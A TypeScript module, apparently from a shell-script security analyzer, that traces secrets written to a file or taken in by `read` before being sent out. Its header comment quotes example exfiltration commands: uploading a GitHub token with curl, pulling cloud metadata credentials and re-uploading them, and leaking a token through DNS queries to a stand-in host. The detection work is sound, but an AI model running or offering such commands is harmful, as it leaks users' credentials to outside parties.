/**
 * Secret material that reaches a sink one step removed: a file the script filled with it
 * earlier and then uploads (`gh auth token > t; curl -F f=@t …`, `curl -o c.json
 * http://169.254.169.254/…/security-credentials/r; curl -T c.json …`), and a variable `read`
 * took from it (`gh auth token | fold -w 30 | while read p; do dig "$p.x.example.net"; done`).
 * What the normalizer folded is already marked (a copy, a download of metadata credentials,
 * `cat .env > f`: src/normalize/output-files.ts, producers.ts); what only the extractors
 * know as secret (a stored credential's printer, src/extract/credential-printers.ts) is
 * followed here through the command that wrote the file or fed the `read`. Pure.
 */
import type { AnalyzeContext, NormalizedCommand } from '../engine/types.js';
import { carriesSecret } from '../normalize/credentials.js';
import { resolvePath } from './http-body.js';
import { producedSecret, stdinSecret, type SecretSource } from './exfil-sources.js';
import { historyWrittenTo } from './exfil-history.js';

/** What secret material `c`'s output (its stdout, or what it passes on from stdin) is; '' = none known. */
const outputSecret = (c: NormalizedCommand, ctx: AnalyzeContext): SecretSource | '' =>
  producedSecret(c, ctx) || stdinSecret(c, ctx);

/**
 * The secret material in the local file `raw` (as a sink names it: `name=@F`, `<F`, `F`)
 * when `cmd` runs: the folded text the script wrote holds the mark, or the last command that
 * wrote it through a redirect or `tee` printed secret material, or it was written with the
 * shell's history (`history -w F`). '' = none known.
 */
export function writtenSecret(
  raw: string,
  cmd: NormalizedCommand,
  ctx: AnalyzeContext,
  all: NormalizedCommand[],
): SecretSource | '' {
  const file = raw
    .replace(/^[^=@<]*=/, '')
    .replace(/^[@<]/, '')
    .replace(/;.*$/, '');
  if (!file || file === '-') return '';
  const abs = resolvePath(file, cmd, ctx);
  if (carriesSecret(cmd.files?.[abs] ?? undefined)) return 'credential-file';
  let last: SecretSource | '' = '';
  for (const c of all) {
    if (c === cmd) break;
    const teed = c.program === 'tee' && c.argv.slice(1).some((a) => resolvePath(a, c, ctx) === abs);
    if (c.writes.includes(abs) || teed) last = teed ? stdinSecret(c, ctx) : outputSecret(c, ctx);
    // the shell's history written to the file (`history -w /tmp/h`: exfil-history.ts)
    const history = historyWrittenTo(c.argv);
    if (history && resolvePath(history, c, ctx) === abs) last = 'credential-file';
  }
  return last;
}

/** `read`'s options that take a value (`-p PROMPT`, `-d DELIM`, `-n N`, `-t T`, `-u FD`); `-a NAME` names the array. */
const READ_VALUE = /^-[a-zA-Z]*[pdnNtu]$/;

/** The variables a `read` / `mapfile` / `readarray` command assigns. Empty = none. */
function readNames(c: NormalizedCommand): string[] {
  if (c.program !== 'read' && c.program !== 'mapfile' && c.program !== 'readarray') return [];
  const names: string[] = [];
  for (let i = 1; i < c.argv.length; i++) {
    const a = c.argv[i];
    if (/^-[a-zA-Z]*a$/.test(a) && c.argv[i + 1]) names.push(c.argv[++i]);
    else if (READ_VALUE.test(a) || (c.program !== 'read' && /^-[a-zA-Z]*[CcOsu]$/.test(a))) i++;
    else if (!a.startsWith('-') && /^[A-Za-z_]\w*$/.test(a)) names.push(a);
  }
  return names.length || c.program === 'read' ? names : ['MAPFILE'];
}

/**
 * The secret material a variable referenced in `words` holds because an earlier `read`
 * (or `mapfile`) in the script took it from a secret stdin. '' = none.
 */
export function readSecret(
  words: string[],
  cmd: NormalizedCommand,
  ctx: AnalyzeContext,
  all: NormalizedCommand[],
): SecretSource | '' {
  const used = new Set(words.flatMap((w) => [...w.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((m) => m[1])));
  if (!used.size) return '';
  for (const c of all) {
    if (c === cmd) break;
    if (!readNames(c).some((n) => used.has(n))) continue;
    const src = c.stdin?.kind === 'file' && c.stdin.path ? writtenSecret(c.stdin.path, c, ctx, all) : '';
    const found = stdinSecret(c, ctx) || src;
    if (found) return found;
  }
  return '';
}
